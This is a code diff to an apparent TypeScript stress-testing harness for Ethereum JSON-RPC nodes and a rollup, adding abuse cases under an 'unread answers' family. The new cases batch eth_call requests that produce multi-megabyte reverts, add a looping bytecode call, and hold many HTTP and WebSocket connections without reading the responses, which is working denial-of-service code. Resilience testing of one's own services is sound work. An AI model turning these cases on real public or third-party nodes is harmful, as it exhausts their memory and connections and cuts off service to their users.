@@ -5,7 +5,7 @@ import type { Abuse, Attacker } from '../abuse.ts';
 import { holdSockets, readSlowly } from '../attack/sockets.ts';
 import { holdWebSockets } from '../attack/web-sockets.ts';
 import { encodeCall, NODES, ROLLUP } from './body-abuse.ts';
-import { callForZeros } from './programs.ts';
+import { callForZeros, revertWithZeros } from './programs.ts';
 import { encodeRequest } from './requests.ts';
 
 const family = 'unread answers';
@@ -14,8 +14,16 @@ const LARGE = encodeCall('eth_call', callForZeros(ANSWER_BYTES));
 const MIDDLING = encodeCall('eth_call', callForZeros(500_000));
 const RECEIPTS = encodeCall('eth_getBlockReceipts', ['0x13']);
 const OF_NODE = encodeCall('eth_call', [{ data: '0xb16e' }, 'latest']);
+const LARGE_REVERT = { method: 'eth_call', params: [{ data: revertWithZeros(ANSWER_BYTES) }, 'latest'] };
+/** Init code that jumps to its begin until its time is up. */
+const SLOW = { method: 'eth_call', params: [{ data: '0x5b600056' }, 'latest'] };
+const MIDDLING_REVERT = { method: 'eth_call', params: [{ data: revertWithZeros(90_000) }, 'latest'] };
 const READ = { bytes: 4_096, everyMs: 500 } as const;
 const MS = 5_000;
+
+function encodeBatch(calls: readonly object[]): Uint8Array {
+  return Buffer.from(JSON.stringify(calls.map((call, id) => ({ jsonrpc: '2.0', id, ...call }))));
+}
 
 type UnreadPlan = {
   readonly connections: number;
@@ -45,6 +53,7 @@ function askUnreadOverWebSocket(
   count: number,
   messages: number,
   isTrickle: boolean,
+  body: Uint8Array = LARGE,
 ): void {
   holdWebSockets(attacker, {
     count,
@@ -52,7 +61,7 @@ function askUnreadOverWebSocket(
     isRead: false,
     use(socket: WebSocket) {
       attacker.seen.sent += messages;
-      for (let index = 0; index < messages; index++) socket.send(LARGE, { binary: false });
+      for (let index = 0; index < messages; index++) socket.send(body, { binary: false });
       if (!isTrickle) return;
       // A moment of reading takes what the kernel has, and lets the service send as much again.
       const timer = setInterval(() => {
@@ -127,5 +136,50 @@ export const UNREAD_ANSWERS: readonly Abuse[] = [
     name: 'WebSockets that trickle',
     transport: 'WebSocket',
     begin: (attacker) => askUnreadOverWebSocket(attacker, 24, 8, true),
+  },
+  {
+    ...COMMON,
+    name: 'batches of one revert of 11 MB, not read',
+    transport: 'HTTP',
+    begin: (attacker) =>
+      askUnread(attacker, {
+        connections: 60,
+        requests: 1,
+        body: encodeBatch([LARGE_REVERT]),
+        host: ROLLUP,
+        isTrickle: false,
+      }),
+  },
+  {
+    ...COMMON,
+    name: 'batches with a slow call behind a revert of 11 MB',
+    transport: 'HTTP',
+    begin: (attacker) =>
+      askUnread(attacker, {
+        connections: 60,
+        requests: 1,
+        body: encodeBatch([LARGE_REVERT, SLOW]),
+        host: ROLLUP,
+        isTrickle: false,
+      }),
+  },
+  {
+    ...COMMON,
+    name: 'batches with a slow call behind 120 reverts of 90 KB',
+    transport: 'HTTP',
+    begin: (attacker) =>
+      askUnread(attacker, {
+        connections: 60,
+        requests: 1,
+        body: encodeBatch([...Array<object>(120).fill(MIDDLING_REVERT), SLOW]),
+        host: ROLLUP,
+        isTrickle: false,
+      }),
+  },
+  {
+    ...COMMON,
+    name: 'batches of one revert of 11 MB, WebSockets that do not read',
+    transport: 'WebSocket',
+    begin: (attacker) => askUnreadOverWebSocket(attacker, 20, 2, false, encodeBatch([LARGE_REVERT])),
   },
 ];
